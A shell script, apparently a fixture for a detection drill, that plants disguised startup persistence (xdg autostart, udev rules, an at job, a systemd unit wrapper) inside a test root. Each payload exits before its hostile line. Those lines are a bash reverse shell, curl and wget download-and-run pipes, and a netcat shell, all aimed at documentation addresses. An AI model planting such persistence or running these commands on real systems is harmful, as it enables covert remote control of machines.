#!/bin/sh
# Plant startup items whose name gives nothing away and whose payload does: what a scan must judge by
# what the item finally runs. Every payload only writes /var/tmp/lifeline-planted-MECHANISM and stops
# (exit 0) before its malicious line, which names a documentation address only; nothing is run here.
#   roles/drill/files/startup.sh ROOT MECHANISM...
# MECHANISM (several may be given):
#   xdg_reverse_shell     an xdg autostart entry whose Exec= runs an unowned script holding a
#                         reverse shell to 192.0.2.1
#   udev_escaped_quote    a udev rule whose RUN+= value holds \"-escaped quotes around a
#                         download-and-run command
#   udev_unowned_script   a udev rule running an unowned script that holds a netcat reverse shell
#   at_file               a queued at job as `at -f FILE` writes it: the header, the environment, the
#                         cd block, then FILE's commands, which run an unowned downloader script
#   unit_wrapper          an enabled systemd unit running /usr/local/bin/sys-health, a wrapper that
#                         execs /var/tmp/.sys-health
# With PLANT_RECORD=DIR every path created or changed (inside the root) is appended to DIR/planted
# as "MECHANISM PATH".
set -eu
[ $# -ge 2 ] || { echo "usage: $0 ROOT MECHANISM..." >&2; exit 2; }
root=${1%/}
shift
[ -d "$root/etc" ] || { echo "$root/etc is not a directory: not a root" >&2; exit 2; }
record=${PLANT_RECORD:-}

# planted MECHANISM PATH: write down a path this planter created or changed.
planted() {
  [ -n "$record" ] || return 0
  mkdir -p "$record"
  printf '%s %s\n' "$1" "$2" >>"$record/planted"
}

# directory MECHANISM PATH [MODE]: make a directory of the root, recording each one made.
directory() {
  [ -d "$root$2" ] && return 0
  directory "$1" "$(dirname "$2")"
  mkdir -m "${3:-0755}" "$root$2"
  planted "$1" "$2"
}

# write_file MECHANISM PATH MODE: stdin into a file of the root (owned by root).
write_file() {
  directory "$1" "$(dirname "$2")"
  cat >"$root$2"
  chmod "$3" "$root$2"
  planted "$1" "$2"
}

# marker MECHANISM: the harmless line every payload runs first.
marker() {
  printf 'touch /var/tmp/lifeline-planted-%s\nexit 0\n' "$1"
}

plant_xdg_reverse_shell() {
  m=xdg_reverse_shell
  script=/usr/local/bin/keyring-sync
  { printf '#!/bin/bash\n# Sync the keyring at login\n'; marker $m
    printf 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n'; } | write_file $m $script 0755
  write_file $m /etc/xdg/autostart/keyring-sync.desktop 0644 <<DESKTOP
[Desktop Entry]
Type=Application
Name=Keyring sync
Exec=$script
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESKTOP
}

plant_udev_escaped_quote() {
  m=udev_escaped_quote
  write_file $m /etc/udev/rules.d/71-net-sync.rules 0644 <<'RULES'
# Keep interface settings in sync
ACTION=="add", SUBSYSTEM=="net", KERNEL!="lo", RUN+="/bin/sh -c \"touch /var/tmp/lifeline-planted-udev_escaped_quote; exit 0; curl -fsS http://192.0.2.1/net.sh | sh\""
RULES
}

plant_udev_unowned_script() {
  m=udev_unowned_script
  script=/usr/local/sbin/usb-backup
  { printf '#!/bin/sh\n# Back up a USB stick when it is plugged in\n'; marker $m
    printf 'nc 203.0.113.5 4444 -e /bin/sh &\n'; } | write_file $m $script 0755
  write_file $m /etc/udev/rules.d/99-usb-backup.rules 0644 <<RULES
ACTION=="add", SUBSYSTEM=="block", ENV{ID_BUS}=="usb", RUN+="$script \$kernel"
RULES
}

plant_at_file() {
  m=at_file
  script=/usr/local/lib/sysstat-collect
  { printf '#!/bin/sh\n'; marker $m
    printf 'wget -q -O- http://198.51.100.23/c.sh | sh\n'; } | write_file $m $script 0755
  spool=/var/spool/cron/atjobs
  directory $m /var/spool/cron
  if [ ! -d "$root$spool" ]; then
    directory $m $spool 1770
    chown 1:1 "$root$spool"
  fi
  # at names a job a, the job number (5 hex digits) and its time in minutes since the epoch (8).
  job=$spool/a00017$(printf '%08x' $(( $(date +%s) / 60 + 60 )))
  # The job as at writes it for root with -f FILE: FILE's lines follow the cd block.
  write_file $m "$job" 0700 <<JOB
#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
SHELL=/bin/bash; export SHELL
HOME=/root; export HOME
LOGNAME=root; export LOGNAME
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
bash $script
JOB
  chown 0:1 "$root$job"
}

plant_unit_wrapper() {
  m=unit_wrapper
  { printf '#!/bin/sh\n'; marker $m; } | write_file $m /var/tmp/.sys-health 0755
  write_file $m /usr/local/bin/sys-health 0755 <<'WRAPPER'
#!/bin/sh
# System health reporter
exec /var/tmp/.sys-health "$@"
WRAPPER
  unit=/etc/systemd/system/sys-health.service
  write_file $m $unit 0644 <<UNIT
[Unit]
Description=System health reporter
After=network.target

[Service]
Type=simple
ExecStart=/usr/local/bin/sys-health --interval 300
Restart=always

[Install]
WantedBy=multi-user.target
UNIT
  directory $m /etc/systemd/system/multi-user.target.wants
  ln -sf $unit "$root/etc/systemd/system/multi-user.target.wants/sys-health.service"
  planted $m /etc/systemd/system/multi-user.target.wants/sys-health.service
}

for mechanism in "$@"; do
  case $mechanism in
    xdg_reverse_shell | udev_escaped_quote | udev_unowned_script | at_file | unit_wrapper)
      "plant_$mechanism" ;;
    *) echo "unknown mechanism: $mechanism (startup.sh plants xdg_reverse_shell, udev_escaped_quote," \
         "udev_unowned_script, at_file, unit_wrapper)" >&2
       exit 2 ;;
  esac
done
